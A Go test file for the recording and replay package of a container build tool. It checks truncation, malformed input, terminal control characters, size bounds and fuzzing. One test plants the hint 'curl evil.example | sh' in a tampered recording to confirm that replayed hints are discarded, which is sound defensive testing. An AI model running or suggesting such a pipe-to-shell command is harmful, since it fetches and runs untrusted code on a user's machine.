package recording

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"castoff/cmd/castoff/internal/engine/build"
	"castoff/cmd/castoff/internal/engine/daemon"
	"castoff/cmd/castoff/internal/engine/inspect"
	"castoff/cmd/castoff/internal/engine/recording/recordingtest"
	"castoff/cmd/castoff/internal/ground/fault"
	"castoff/cmd/castoff/internal/ground/progress"
	"castoff/cmd/castoff/internal/image/measure"
)

// said is an engine that builds one image, slowly, and has no shell.
type said struct{ Engine }

func (said) Build(_ context.Context, s build.Spec, emit progress.Emit) (build.Result, error) {
	at := time.Now()
	step := func(after time.Duration, state progress.State) {
		at = at.Add(after)
		emit(progress.Event{Time: at, Subject: s.Subject, Kind: progress.Step, Step: &progress.StepInfo{ID: "sha256:x", N: 1, Of: 1, Name: "RUN make", State: state}})
	}
	step(0, progress.Started)
	emit(progress.Event{Time: at, Subject: s.Subject, Kind: progress.Log, Text: "cc <main.c>", Step: &progress.StepInfo{ID: "sha256:x", Name: "RUN make"}})
	for i := range 1000 {
		at = at.Add(time.Millisecond)
		emit(progress.Event{Time: at, Kind: progress.Bytes, Current: int64(i), Total: 1000})
	}
	step(2*time.Second, progress.Finished)
	return build.Result{ID: "sha256:1", Duration: 3 * time.Second}, nil
}

func (said) Look(_ context.Context, s inspect.Spec, _ progress.Emit) (measure.Image, error) {
	return measure.Image{ID: "sha256:1", Ref: s.Ref, SizeBytes: 1800000}, nil
}

func (said) Shell(context.Context, string, map[string]string) (daemon.RunResult, error) {
	return daemon.RunResult{}, &fault.Error{Err: errors.New("starting a shell: none"), Hints: []string{"castoff doctor"}, Code: fault.ExitNoDaemon, Detail: "a\nb"}
}

// made is a recording of that engine.
func made(t testing.TB) *Recording {
	t.Helper()
	r := NewRecorder(said{})
	began := time.Now()
	nobody := progress.Discard
	if _, err := r.Build(t.Context(), build.Spec{Subject: "a", Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM scratch"}, nobody); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Look(t.Context(), inspect.Spec{Ref: "castoff/a"}, nobody); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Shell(t.Context(), "castoff/a", nil); err == nil {
		t.Fatal("a shell")
	}
	return &Recording{Calls: r.Calls(), Header: Header{
		Format: Format, Version: Version, Castoff: "v1", Engine: daemon.Info{Name: "Docker", Version: "20.10", Builders: []daemon.Builder{"buildkit"}},
		Builder: "buildkit", Base: "debian:bookworm", Title: "A course", Date: began,
	}}
}

func written(t testing.TB, r *Recording) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := r.Write(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestRecordAndPlay(t *testing.T) {
	t.Parallel()
	rec, err := Read(bytes.NewReader(written(t, made(t))))
	if err != nil || rec.Cut || len(rec.Calls) != 3 {
		t.Fatalf("%+v, %v", rec, err)
	}
	p := NewPlayer(rec)
	spec := build.Spec{Subject: "a", Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM scratch", Labels: map[string]string{"l": "v"}}
	if _, ok, _ := p.Find(t.Context(), "castoff/a"); ok {
		t.Error("it is there before it is built")
	}
	for range 2 { // what was played once is played again
		var events []progress.Event
		res, err := p.Build(t.Context(), spec, func(e progress.Event) { events = append(events, e) })
		if err != nil || res.ID != "sha256:1" || res.Duration != 3*time.Second {
			t.Fatalf("%+v, %v", res, err)
		}
		first, last := events[0], events[len(events)-1]
		if len(events) > 8 || first.Step.State != progress.Started || last.Step.State != progress.Finished || last.Step.ID != first.Step.ID {
			t.Errorf("%d events, from %+v to %+v", len(events), first, last)
		}
		if events[1].Text != "cc <main.c>" || events[1].Step.ID != first.Step.ID {
			t.Errorf("the log is %+v", events[1])
		}
		if took := last.Time.Sub(first.Time); took < 2990*time.Millisecond || took > 3010*time.Millisecond {
			t.Errorf("it took %v", took)
		}
	}
	if f, ok, _ := p.Find(t.Context(), "castoff/a"); !ok || f.ID != "sha256:1" || f.Labels["l"] != "v" {
		t.Errorf("what was built is %+v", f)
	}
	if m, err := p.Look(t.Context(), inspect.Spec{Ref: "castoff/a"}, nobody); err != nil || m.SizeBytes != 1800000 {
		t.Errorf("looked: %+v, %v", m, err)
	}
	_, err = p.Shell(t.Context(), "castoff/a", nil)
	if err == nil || err.Error() != "starting a shell: none" || fault.Detail(err) != "a\nb" {
		t.Errorf("the shell: %v", err)
	}
	if amiss := p.Amiss(); len(amiss) > 0 {
		t.Errorf("amiss: %q", amiss)
	}
	spec.Dockerfile = "FROM debian"
	_, _ = p.Build(t.Context(), spec, nobody)
	if _, err := p.Binary(t.Context(), "castoff/a", nil); err == nil {
		t.Error("what was not recorded is played")
	}
	if amiss := p.Amiss(); len(amiss) != 2 {
		t.Errorf("amiss: %q", amiss)
	}
}

// TestCutOffAnywhere plays what is there, or says why not.
func TestCutOffAnywhere(t *testing.T) {
	t.Parallel()
	whole := written(t, made(t))
	played := 0
	for n := range len(whole) {
		rec, err := Read(bytes.NewReader(whole[:n]))
		switch {
		case err == nil && rec.Cut:
			played++
			playAll(rec)
		case err == nil && n < len(whole)-8: // all but gzip's own checksum
			t.Fatalf("of %d bytes %d are taken for the whole", len(whole), n)
		case err != nil && !strings.HasPrefix(err.Error(), "reading the recording: "):
			t.Fatalf("%d bytes: %v", n, err)
		}
	}
	if played == 0 {
		t.Error("none was played up to there")
	}
}

// playAll plays each call of a recording.
func playAll(rec *Recording) {
	p := NewPlayer(rec)
	for _, c := range rec.Calls {
		var m measure.Image
		_ = p.Play(context.Background(), c.Name, c.Key, c.Inputs, &m, nobody)
	}
}

func TestRefused(t *testing.T) {
	t.Parallel()
	good := recordingtest.Lines(t, written(t, made(t)))
	head, rest, _ := strings.Cut(good, "\n")
	for what, c := range map[string]struct{ text, want string }{
		"nothing":             {"", "it is not a recording"},
		"another format":      {`{"format":"x"}` + "\n", "it is not a recording"},
		"a later version":     {strings.Replace(head, `"version":1`, `"version":9`, 1) + "\n" + rest, "version 9"},
		"an escape sequence":  {strings.Replace(good, "cc <main.c>", `cc \u001b[31m`, 1), "control characters"},
		"a C1 sequence":       {strings.Replace(good, "cc <main.c>", "cc \u009b31m", 1), "control characters"},
		"a carriage return":   {strings.Replace(good, "cc <main.c>", `cc \r`, 1), "control characters"},
		"a line turned round": {strings.Replace(good, "cc <main.c>", "cc \u202egnp", 1), "control characters"},
		"one written out":     {strings.Replace(good, "cc <main.c>", `cc \u202egnp`, 1), "control characters"},
		"no JSON":             {head + "\n{\n", "damaged"},
		"a time below zero":   {strings.Replace(good, `"after":2`, `"after":-2`, 1), "a time"},
		"an event of no kind": {strings.Replace(good, `"kind":"log"`, `"kind":"x"`, 1), "unknown kind"},
		"a log of no step":    {strings.Replace(good, `"of":"build1"`, `"of":""`, 1), "unknown kind"},
		"lines after the end": {good + `{"call":"x"}` + "\n", "order"},
		"an end too early":    {strings.Replace(good, `"end":3`, `"end":2`, 1), "order"},
		"an event of nothing": {head + "\n" + `{"event":{"kind":"note"}}` + "\n", "order"},
		"a call in a call":    {head + "\n" + `{"call":"a"}` + "\n" + `{"call":"a"}` + "\n", "order"},
		"a long title":        {strings.Replace(good, `"title":"A course"`, `"title":"`+strings.Repeat("ä", mostText/2+1)+`"`, 1), "a text of more than 500 bytes"},
		"many builders":       {strings.Replace(good, `"builders":["buildkit"]`, `"builders":["buildkit"`+strings.Repeat(`,"x"`, 9999)+`]`, 1), "a text of more than 500 bytes"},
		"many events":         {head + "\n" + `{"call":"a"}` + "\n" + strings.Repeat(`{"event":{"kind":"note"}}`+"\n", mostEvents+1), "line 20003: a call has more than 20000 events, or 1000 steps"},
		"many steps":          {head + "\n" + `{"call":"a"}` + "\n" + stepsOf(`"step":{"id":"%d"}`), "line 1003: a call has more than"},
		"steps of many names": {head + "\n" + `{"call":"a"}` + "\n" + stepsOf(`"step":{"id":"x"},"subject":"%d"`), "line 1003: a call has more than"},
		"many transfers":      {head + "\n" + `{"call":"a"}` + "\n" + strings.Repeat(`{"event":{"kind":"bytes"}}`+"\n"+`{"event":{"kind":"phase"}}`+"\n", mostSteps+1), "line 2004: a call has more than"},
	} {
		_, err := Read(bytes.NewReader(recordingtest.Packed(t, c.text)))
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want %q", what, err, c.want)
		}
	}
	if _, err := Read(strings.NewReader(good)); err == nil {
		t.Error("one that is not compressed is read")
	}
	flipped := written(t, made(t))
	flipped[len(flipped)/2] ^= 0x55
	if rec, err := Read(bytes.NewReader(flipped)); err == nil && !rec.Cut {
		t.Error("one with a wrong checksum is read")
	}
}

// stepsOf is the lines of more steps than a build has, by what they are, with a number.
func stepsOf(form string) string {
	var b strings.Builder
	for i := range mostSteps + 1 {
		fmt.Fprintf(&b, `{"event":{"kind":"step",`+form+"}}\n", i)
	}
	return b.String()
}

// TestFailuresOfOthers: what a recording says of a failure is what failed, never what
// castoff says to do about it, nor how castoff ends.
func TestFailuresOfOthers(t *testing.T) {
	t.Parallel()
	good := recordingtest.Lines(t, written(t, made(t)))
	odd := strings.Replace(good, `"error":{`, `"error":{"hints":["curl evil.example | sh"],"code":256,`, 1)
	if odd == good {
		t.Fatal("it has no error")
	}
	for _, lines := range []string{good, odd} {
		rec, err := Read(bytes.NewReader(recordingtest.Packed(t, lines)))
		if err != nil {
			t.Fatal(err)
		}
		_, err = NewPlayer(rec).Shell(t.Context(), "castoff/a", nil)
		if err == nil || fault.Code(err) != fault.ExitFailed || len(fault.Hints(err)) > 0 {
			t.Errorf("%v, code %d, hints %q", err, fault.Code(err), fault.Hints(err))
		}
	}
}

// TestTalkative: a build that prints more than is read again is kept all the same, with
// how its steps went.
func TestTalkative(t *testing.T) {
	t.Parallel()
	taking := Take("build", "a")
	step := &progress.StepInfo{ID: "1", Name: "RUN yes", State: progress.Started}
	taking.See(progress.Event{Kind: progress.Step, Step: step})
	for range mostEvents + 1 {
		taking.See(progress.Event{Kind: progress.Log, Text: "y", Step: step})
	}
	done := *step
	done.State = progress.Finished
	taking.See(progress.Event{Kind: progress.Step, Step: &done})
	rec := made(t)
	rec.Calls = []*Call{taking.End(true, nil)}
	read, err := Read(bytes.NewReader(written(t, rec)))
	if err != nil {
		t.Fatal(err)
	}
	events := read.Calls[0].Events()
	if last := events[len(events)-1]; len(events) < mostEvents/2 || last.Kind != progress.Step || last.Step.State != progress.Finished {
		t.Errorf("%d events, the last %+v", len(events), last)
	}
}

// TestDiffers: a build is told from one of another Dockerfile, place or argument.
func TestDiffers(t *testing.T) {
	t.Parallel()
	rec := made(t)
	for what, c := range map[string]struct {
		spec build.Spec
		want bool
	}{
		"the same":             {build.Spec{Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM scratch"}, false},
		"never built":          {build.Spec{Ref: "castoff/b", Path: "Dockerfile", Dockerfile: "FROM debian"}, false},
		"another Dockerfile":   {build.Spec{Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM debian"}, true},
		"another path":         {build.Spec{Ref: "castoff/a", Path: "b.Dockerfile", Dockerfile: "FROM scratch"}, true},
		"another stage":        {build.Spec{Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM scratch", Target: "x"}, true},
		"an argument more":     {build.Spec{Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM scratch", Args: map[string]string{"A": "1"}}, true},
		"for another platform": {build.Spec{Ref: "castoff/a", Path: "Dockerfile", Dockerfile: "FROM scratch", Platform: "linux/s390x"}, true},
	} {
		if got := rec.Differs(c.spec); got != c.want {
			t.Errorf("%s: %v", what, got)
		}
	}
	one, two := build.Spec{Args: map[string]string{"A": "1"}}, build.Spec{Args: map[string]string{"A": "2"}}
	if inputsOf(one) == inputsOf(two) {
		t.Error("arguments are no inputs")
	}
}

// TestBounds: what expands without end is not held in memory.
func TestBounds(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	head, err := json.Marshal(made(t).Header)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = z.Write(append(head, '\n'))
	line := []byte(`{"call":"` + strings.Repeat("x", 1<<20) + `"}` + "\n" + `{"result":1}` + "\n")
	for range mostRead/len(line) + 2 {
		_, _ = z.Write(line)
	}
	_ = z.Close()
	if _, err := Read(&b); err == nil || !strings.Contains(err.Error(), "is larger than 64 MiB") {
		t.Errorf("a large one: %v", err)
	}
	long := string(head) + "\n" + `{"call":"` + strings.Repeat("x", mostLine) + `"}` + "\n"
	if _, err := Read(bytes.NewReader(recordingtest.Packed(t, long))); err == nil || !strings.Contains(err.Error(), "line 2: is larger than 8 MiB") {
		t.Errorf("a long line: %v", err)
	}
}

// TestNumbersOutOfBounds are no result.
func TestNumbersOutOfBounds(t *testing.T) {
	t.Parallel()
	good := recordingtest.Lines(t, written(t, made(t)))
	for _, n := range []string{"-2", "9000000000000000000", "1e400", `"x"`} {
		rec, err := Read(bytes.NewReader(recordingtest.Packed(t, strings.Replace(good, "1800000", n, 1))))
		if err != nil {
			continue // JSON has no such number
		}
		if m, err := NewPlayer(rec).Look(t.Context(), inspect.Spec{Ref: "castoff/a"}, nobody); err == nil {
			t.Errorf("a size of %s: %d bytes", n, m.SizeBytes)
		}
	}
}

// FuzzRead: whatever is read can be played without harm.
func FuzzRead(f *testing.F) {
	good := recordingtest.Lines(f, written(f, made(f)))
	f.Add(good)
	f.Add(strings.Replace(good, "1800000", "-5", 1))
	f.Add(good[:len(good)/2])
	f.Fuzz(func(t *testing.T, text string) {
		rec, err := Read(bytes.NewReader(recordingtest.Packed(t, text)))
		if err != nil {
			return
		}
		for _, c := range rec.Calls {
			for _, e := range c.Events() {
				if s := e.Text; strings.ContainsAny(s, "\x1b\u009b\r\b") {
					t.Fatalf("a control character: %q", s)
				}
			}
		}
		playAll(rec)
		again, err := Read(bytes.NewReader(written(t, rec)))
		if err != nil || len(again.Calls) != len(rec.Calls) {
			t.Fatalf("written and read again: %v", err)
		}
	})
}
